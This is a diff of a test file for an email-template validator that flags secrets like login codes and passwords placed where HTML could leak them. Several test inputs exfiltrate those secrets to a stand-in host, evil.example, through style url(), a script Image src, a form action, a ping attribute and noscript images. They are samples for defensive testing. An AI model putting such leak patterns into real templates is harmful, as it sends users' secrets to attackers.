@@ -67,6 +67,7 @@ describe('the text body', () => {
     ['Log in at <%= loginUrl %> with <%= password %>!'],
     ['<%= code %>'],
     ['Your page: https://shop.example/?name=<%= customer.firstName %>'],
+    ['Code: <% if email %><%= code %><% end %>'],
   ])('Given %j, Then it is fine', (text) => {
     expect(problemIn('text', text)).toBeNull();
   });
@@ -123,6 +124,10 @@ describe('the HTML body', () => {
     ['<table><tr><td>Code:</td><td><%= code %></td><td>.evil.example</td></tr></table>'],
     ['https://shop.example/?c=<br><%= code %>'],
     ['<img src="https://shop.example/logo.png" alt="Shop">\n<p><%= password %></p>'],
+    ['<!DOCTYPE html><p><%= code %></p>'],
+    ['<img alt="<%= customer.firstName %>"><p><%= code %></p>'],
+    ['<p>https://shop.example/?c=</p><p class="note"><%= code %></p>'],
+    ['https://shop.example/?c=<div><%= code %></div>'],
   ])('Given %j, Then it is fine', (html) => {
     expect(problemIn('html', html)).toBeNull();
   });
@@ -142,9 +147,12 @@ describe('the HTML body', () => {
       '<a href="<%= resetUrl %>" ping="https://evil.example/">x</a>',
       /has a ping attribute, which reports the link's address/,
     ],
-    ['<style>a{background:url(https://evil.example/<%= code %>)}</style>', /inside <style>/],
+    [
+      '<style>a{background:url(https://evil.example/<%= code %>)}</style>',
+      /inside <style>: put it in the text of the email instead\.$/,
+    ],
     ['<script>new Image().src="//evil.example/"+"<%= code %>"</script>', /inside <script>/],
-    ['<!-- <%= code %> -->', /inside an HTML comment/],
+    ['<!-- <%= code %> -->', /inside an HTML comment: put it in the text of the email instead\.$/],
     ['<title><%= code %></title>', /inside <title>/],
     [
       '<form action="https://evil.example/"><textarea name="c"><%= code %></textarea></form>',
@@ -152,7 +160,18 @@ describe('the HTML body', () => {
     ],
     ['<select name="c"><option><%= code %></option></select>', /inside <select>|drops it/],
     ['<svg><style>a{fill:url(//evil.example/<%= code %>)}</style></svg>', /inside <style>/],
-    ['<p <%= code %>>x</p>', /inside an attribute name of <p>/],
+    ['<p <%= code %>>x</p>', /inside an attribute name of <p>: close the tag before it\.$/],
+    ['<p<%= code %>>x</p>', /cannot stand inside a tag name \(<p.*>\): close the tag before it\.$/],
+    ['<!DOCTYPE <%= code %>><p>x</p>', /cannot stand in the doctype: remove it from there\.$/],
+    [
+      '<a title="<%= resetUrl %>" href="https://shop.example/">x</a>',
+      /in the title attribute of <a>/,
+    ],
+    // An SVG element named like an HTML block is not laid out as one.
+    [
+      '<p>https://evil.example/?c=<svg><section></section></svg><%= code %></p>',
+      /glued to "=" before it/,
+    ],
     // Mail clients run no scripts, so they render <noscript> content as markup.
     [
       '<p>Hi</p><noscript><img src="https://evil.example/ <%= code %>"></noscript>',
@@ -197,6 +216,13 @@ describe('the HTML body', () => {
     );
     expect(message).toMatch(
       /^Line 3: <%= code %> holds a secret and cannot stand in the src attribute of <img>: in the HTML body it may stand only as text, or a link's address as the whole href of an <a> \(<a href="<%= resetUrl %>">\)\. Move it out of the attribute\.$/
+    );
+  });
+
+  test('Given several misplaced secrets, Then the first line with one is named', () => {
+    const html = '<p>x</p <%= code %>>\n<img src="//e.example/<%= password %>">';
+    expect(problemIn('html', html)).toMatch(
+      /^Line 1: <%= code %> holds a secret, and this HTML drops it/
     );
   });
 
